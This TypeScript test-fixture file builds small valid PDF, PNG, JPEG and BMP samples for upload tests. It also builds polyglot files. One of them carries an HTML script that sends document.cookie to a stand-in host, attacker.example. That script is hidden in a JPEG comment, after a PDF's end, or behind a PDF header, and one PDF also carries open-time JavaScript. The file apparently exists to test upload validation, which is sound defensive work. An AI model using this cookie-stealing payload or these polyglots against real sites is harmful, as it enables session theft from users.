/**
 * Small files that are what they say they are, for tests that upload (the API checks the whole
 * structure, not only the first bytes): a PDF of one page, a 1 × 1 PNG and a 1 × 1 baseline JPEG, each
 * optionally padded to a size (the padding is part of the format: a PDF object, a PNG chunk, a JPEG
 * comment), and polyglots of each with HTML inside.
 */
import { crc32, deflateSync } from "node:zlib";
import PDFDocument from "pdfkit";

/**
 * A one-page PDF written with pdfkit, its bytes at hand at once: with the standard fonts pdfkit writes
 * the whole file while `end()` runs, and the stream keeps it until read.
 */
function scanPdf(title: string, write: (doc: PDFKit.PDFDocument) => void = () => {}): Buffer {
  const doc = new PDFDocument({ size: "LETTER", info: { Title: title, CreationDate: new Date("2026-01-01T00:00:00Z") } });
  doc.font("Helvetica").fontSize(12).text("Scanned document", 72, 72);
  write(doc);
  doc.end();
  const chunks: Buffer[] = [];
  for (let chunk: Buffer | null; (chunk = doc.read() as Buffer | null) !== null;) chunks.push(chunk);
  const file = Buffer.concat(chunks);
  if (!file.subarray(-8).toString("latin1").includes("%%EOF")) throw new Error("pdfkit did not write the whole file at once");
  return file;
}

/** A one-page PDF; `padTo` bytes at least, with an unreferenced stream of filler. */
export function samplePdf(padTo = 0, title = "Scan"): Buffer {
  const pdf = scanPdf(title);
  if (pdf.length >= padTo) return pdf;
  // An incremental update: one more object (a stream of filler) after the file's end, as PDF allows.
  const filler = padTo - pdf.length;
  return Buffer.concat([
    pdf,
    Buffer.from(`\n99 0 obj\n<< /Length ${filler} >>\nstream\n`),
    Buffer.alloc(filler, 0x30),
    Buffer.from("\nendstream\nendobj\n"),
  ]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, "latin1");
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}

/** A 1 × 1 grey PNG; `padTo` bytes at least, with a private chunk of filler. */
export function samplePng(padTo = 0): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(1, 0);
  ihdr.writeUInt32BE(1, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  const parts = [Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk("IHDR", ihdr)];
  const size = () => parts.reduce((n, part) => n + part.length, 0) + 12 + 10 + 12; // + IDAT + IEND
  if (padTo > size() + 12) parts.push(pngChunk("prVt", Buffer.alloc(padTo - size() - 12, 0x30)));
  parts.push(pngChunk("IDAT", deflateSync(Buffer.from([0, 0x80]))), pngChunk("IEND", Buffer.alloc(0)));
  return Buffer.concat(parts);
}

/**
 * A 1 × 1 grey baseline JPEG: one quantization table, one component, Huffman tables of one code each
 * (DC difference 0, then end of block), and a scan of one block.
 */
export function sampleJpeg(padTo = 0): Buffer {
  const segment = (marker: number, data: number[] | Buffer) =>
    Buffer.concat([Buffer.from([0xff, marker, ((data.length + 2) >> 8) & 0xff, (data.length + 2) & 0xff]), Buffer.from(data)]);
  const parts = [
    Buffer.from([0xff, 0xd8]), // SOI
    segment(0xe0, [0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]), // APP0 JFIF
    segment(0xdb, [0, ...Array<number>(64).fill(1)]), // DQT 0
    segment(0xc0, [8, 0, 1, 0, 1, 1, 1, 0x11, 0]), // SOF0: 8 bits, 1 × 1, one component
    segment(0xc4, [0x00, 1, ...Array<number>(15).fill(0), 0x00]), // DHT DC 0: one code of length 1 -> 0
    segment(0xc4, [0x10, 1, ...Array<number>(15).fill(0), 0x00]), // DHT AC 0: one code of length 1 -> EOB
  ];
  const fixed = parts.reduce((n, part) => n + part.length, 0) + 10 + 1 + 2; // + SOS, scan, EOI
  // A comment of filler (at most 65,533 bytes a segment, so several when more is needed).
  for (let left = padTo - fixed; left > 4; left -= 65_537) parts.push(segment(0xfe, Buffer.alloc(Math.min(left - 4, 65_533), 0x30)));
  parts.push(
    segment(0xda, [1, 1, 0x00, 0, 63, 0]), // SOS: component 1, tables 0/0
    Buffer.from([0x3f]), // DC code 0, AC code 0 (end of block), padded with ones
    Buffer.from([0xff, 0xd9]), // EOI
  );
  return Buffer.concat(parts);
}

/** A 1 × 1 white 24-bit BMP. */
export function sampleBmp(): Buffer {
  const bmp = Buffer.alloc(14 + 40 + 4);
  bmp.write("BM", 0, "latin1");
  bmp.writeUInt32LE(bmp.length, 2);
  bmp.writeUInt32LE(54, 10); // pixels start
  bmp.writeUInt32LE(40, 14); // BITMAPINFOHEADER
  bmp.writeInt32LE(1, 18); // width
  bmp.writeInt32LE(1, 22); // height
  bmp.writeUInt16LE(1, 26); // planes
  bmp.writeUInt16LE(24, 28); // bits per pixel
  bmp.writeUInt32LE(4, 34); // image size
  bmp.fill(0xff, 54, 57);
  return bmp;
}

/** A page of HTML with a script: what a polyglot hides after a file's first bytes. */
export const HTML_PAYLOAD = '<html><body><script>document.location="https://attacker.example/?c="+document.cookie</script></body></html>';

/** A PDF header followed by HTML (no PDF structure at all). */
export const pdfHeaderThenHtml = () => Buffer.from(`%PDF-1.4\n${HTML_PAYLOAD}\n%%EOF\n`);
/** A real JPEG with HTML in a comment segment. */
export function jpegWithHtml(): Buffer {
  const jpeg = sampleJpeg();
  const html = Buffer.from(HTML_PAYLOAD);
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, ((html.length + 2) >> 8) & 0xff, (html.length + 2) & 0xff]), html]);
  return Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]);
}
/** A real PDF with HTML after its end (as a polyglot appends it). */
export const pdfThenHtml = () => Buffer.concat([samplePdf(), Buffer.from(`\n${HTML_PAYLOAD}\n`)]);
/** A real PDF with document-level JavaScript, run when it opens. */
export const pdfWithJavaScript = () => scanPdf("Form", (doc) => doc.addNamedJavaScript("open", "app.alert(1)"));
